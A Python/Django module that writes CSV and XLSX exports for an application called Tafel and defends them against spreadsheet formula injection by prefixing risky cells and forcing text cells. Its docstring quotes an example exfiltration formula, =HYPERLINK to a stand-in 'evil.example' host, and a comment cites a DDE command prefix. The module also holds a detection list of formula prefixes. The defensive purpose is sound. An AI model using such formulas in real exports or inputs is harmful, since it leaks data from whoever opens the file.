"""The one writer of spreadsheet files (CSV and XLSX) that leave Tafel (issue 10 finding 7).

Every export goes through here, so every export is safe in the same way:

- **No formulas from typed text.** A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (and,
  in some programs, a tab or carriage return before them) as a formula: a name typed as
  `=HYPERLINK("https://evil.example/?"&A1)` would send the row to another site when the FG opens the audit log.
  Such text gets a leading apostrophe in CSV (the convention spreadsheet programs show as text); in XLSX every
  text is written as a text cell, never a formula, and marked "quote prefix" so editing it keeps it text.
  Numbers we write ourselves (and text that is only a number, like `-3` or `12,5`) stay as they are.
- **Dutch Excel opens the CSV without an import dialog**: `;` between fields, a UTF-8 byte-order mark first,
  CRLF line ends, a decimal comma in numbers.
- **No characters XLSX cannot hold** (control characters would make the file unreadable): they are dropped.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse

BOM = "\ufeff"
DELIMITER = ";"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Starts a formula (or a DDE call) in Excel, LibreOffice or Google Sheets; the full-width forms as well, which
# some programs normalise. Tab and carriage return come first in known attacks ("\t=cmd|...").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# Text that is nothing but a number ("-3", "+12,5", "-0.5%") cannot be a formula and stays readable as a number.
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?%?$")
# What XLSX cannot store (XML 1.0 forbids these control characters).
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.match(text)


def neutralise(text: str) -> str:
    """Text as a spreadsheet shows it but never runs it."""
    text = _ILLEGAL.sub("", text)
    return "'" + text if is_formula_like(text) else text


def csv_value(value) -> str:
    """One CSV field: numbers with a decimal comma, dates in ISO form, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ja" if value else "nee"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float | Decimal):
        return str(value).replace(".", ",")
    if isinstance(value, datetime.date | datetime.datetime):
        return value.isoformat()
    return neutralise(str(value))


class _Line:
    """The csv module writes into anything with `write`; this hands the line back instead of keeping it."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence, rows: Iterable[Sequence]) -> Iterator[str]:
    """The file line by line (for a streamed answer); the first line starts with the byte-order mark."""
    writer = csv.writer(_Line(), delimiter=DELIMITER, lineterminator="\r\n")
    yield BOM + writer.writerow([csv_value(v) for v in header])
    for row in rows:
        yield writer.writerow([csv_value(v) for v in row])


def csv_text(header: Sequence, rows: Iterable[Sequence]) -> str:
    return "".join(csv_lines(header, rows))


def csv_bytes(header: Sequence, rows: Iterable[Sequence]) -> bytes:
    return csv_text(header, rows).encode("utf-8")


def _attachment(response: HttpResponse, filename: str) -> HttpResponse:
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(filename: str, header: Sequence, rows: Iterable[Sequence]) -> HttpResponse:
    return _attachment(HttpResponse(csv_bytes(header, rows), content_type=CSV_CONTENT_TYPE), filename)


def csv_streaming_response(filename: str, header: Sequence, rows: Iterable[Sequence]) -> StreamingHttpResponse:
    """For exports too long to build in memory (the audit log): rows are written as they are read."""
    return _attachment(StreamingHttpResponse(csv_lines(header, rows), content_type=CSV_CONTENT_TYPE), filename)


def xlsx_append(sheet, values: Sequence) -> list:
    """Append one row to an openpyxl sheet. Text is always a text cell: openpyxl would otherwise store text
    starting with `=` as a live formula. Returns the row's cells (for styling)."""
    prepared = []
    for value in values:
        if isinstance(value, str):
            value = _ILLEGAL.sub("", value)
        elif isinstance(value, datetime.datetime) and value.tzinfo is not None:
            value = value.replace(tzinfo=None)  # XLSX has no time zones; callers pass local time
        prepared.append(value)
    sheet.append(prepared)
    cells = list(sheet[sheet.max_row]) if prepared else []
    for cell, value in zip(cells, prepared, strict=False):
        if isinstance(value, str):
            cell.value = value
            cell.data_type = "s"
            if is_formula_like(value):
                cell.quotePrefix = True
    return cells


def xlsx_bytes(book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
